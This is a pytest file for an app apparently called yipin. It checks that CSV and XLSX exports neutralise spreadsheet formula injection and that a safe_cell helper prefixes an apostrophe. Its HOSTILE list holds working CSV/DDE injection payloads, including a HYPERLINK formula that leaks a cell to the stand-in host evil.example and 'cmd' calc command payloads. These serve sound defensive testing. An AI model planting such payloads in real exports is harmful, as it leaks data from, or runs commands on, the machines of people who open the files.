"""Every CSV and XLSX export opens as data, never as formulas (issue 7, finding 3).

The test walks the URL map: every GET route whose path ends in ``.csv`` or ``.xlsx`` (or
offers both through ``<any(csv, xlsx)>``) is fetched over records whose text was chosen by an
attacker, opened with ``csv`` / openpyxl, and no cell may begin with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return. A new export route whose arguments the test cannot fill
fails it: teach ``ARGUMENTS`` below how to make one.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from openpyxl import load_workbook

from catalog.models import ImportJob, ImportStatus, InspectionResult, SamplingRecord
from tests import factories
from tests.conftest import login
from yipin import exports
from yipin.db import db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")',
    "=1+1 请核对",
    "=cmd|' /C calc'!A0",
    "+86 139 0000 0013",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")  # a plain (negative) number is not a formula
EXPORT_RULE = re.compile(r"\.(csv|xlsx)$|<any\(csv, ?xlsx\):\w+>")


def export_rules(app: Any) -> list[Any]:
    return sorted(
        (
            rule
            for rule in app.url_map.iter_rules()
            if "GET" in (rule.methods or ()) and EXPORT_RULE.search(rule.rule)
        ),
        key=lambda r: r.rule,
    )


def _urls(rule: Any, ids: dict[str, int]) -> list[str]:
    urls = [rule.rule]
    for name in rule.arguments:
        if name == "fmt":
            urls = [
                re.sub(r"<any\([^)]*\):fmt>", kind, u) for u in urls for kind in ("csv", "xlsx")
            ]
            continue
        assert name in ids, f"{rule.rule}: the export test does not know how to make a {name}"
        urls = [re.sub(rf"<(?:[^:<>]+:)?{name}>", str(ids[name]), u) for u in urls]
    return urls


def _cells(url: str, data: bytes) -> list[str]:
    if url.endswith(".xlsx"):
        book = load_workbook(io.BytesIO(data))
        return [
            cell.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) or cell.data_type == "f"
        ]
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def hostile_records(app: Any, reference: Any) -> dict[str, int]:
    """A recall list and an import report whose every text field is an attack."""
    owner = factories.supplier_staff(owner=True)
    product = factories.ProductFactory(supplier=owner.supplier, name=HOSTILE[0])
    variant = factories.VariantFactory(product=product, spec=HOSTILE[4])
    batch = factories.BatchFactory(variant=variant)
    buyer = factories.consumer(display_name=HOSTILE[5])
    factories.paid_order(buyer, [(variant, 2, batch)], address_detail=HOSTILE[6])
    operator = factories.operator()
    db.session.flush()
    record = SamplingRecord(
        batch_id=batch.id,
        sampled_on=batch.harvest_date,
        agency=HOSTILE[1],
        report_number=HOSTILE[2],
        items=HOSTILE[3],
        result=InspectionResult.FAIL,
        notes=HOSTILE[7],
        recorded_by_id=operator.id,
    )
    job = ImportJob(
        supplier_id=owner.supplier_id,
        filename="=evil.csv",
        storage_key="none",
        status=ImportStatus.FINISHED,
        created_by_id=owner.id,
        errors=[
            {
                "row": 2 + i,
                "column": text,
                "header": text,
                "value": text,
                "code": "x",
                "messages": {"zh_CN": text, "en": text},
            }
            for i, text in enumerate(HOSTILE)
        ],
        error_rows=len(HOSTILE),
    )
    db.session.add_all([record, job])
    db.session.commit()
    return {"record_id": record.id, "job_id": job.id, "operator": operator.id}


@pytest.mark.both_databases
def test_no_export_holds_a_formula(app, client, hostile_records, database):
    from yipin.accounts.models import User

    login(client, db.session.get(User, hostile_records["operator"]))
    rules = export_rules(app)
    assert len(rules) >= 3, [r.rule for r in rules]
    checked = 0
    for rule in rules:
        for url in _urls(rule, hostile_records):
            response = client.get(url)
            assert response.status_code == 200, (url, response.status_code)
            assert response.headers["Content-Disposition"].startswith("attachment")
            cells = _cells(url, response.data)
            assert cells, url
            live = [c for c in cells if FORMULA.match(str(c)) and not NUMBER.match(str(c))]
            assert not live, (url, live)
            checked += 1
    assert checked >= 5
    # and the hostile text is still there, as text the reader sees
    report = client.get(f"/api/v1/imports/{hostile_records['job_id']}/errors.csv")
    assert "'=cmd|' /C calc'!A0" in report.data.decode("utf-8-sig")


def test_the_helper_neutralises_each_formula_lead():
    for text in HOSTILE:
        assert exports.safe_cell(text) == "'" + text
    assert exports.safe_cell("脐橙 =") == "脐橙 ="
    assert exports.safe_cell(-5) == -5 and exports.safe_cell(None) is None
    book = load_workbook(
        io.BytesIO(exports.xlsx_bytes([exports.Sheet("a:b/c", HOSTILE, [HOSTILE])]))
    )
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert all(v.startswith("'") for v in values) and book.active.title == "a b c"
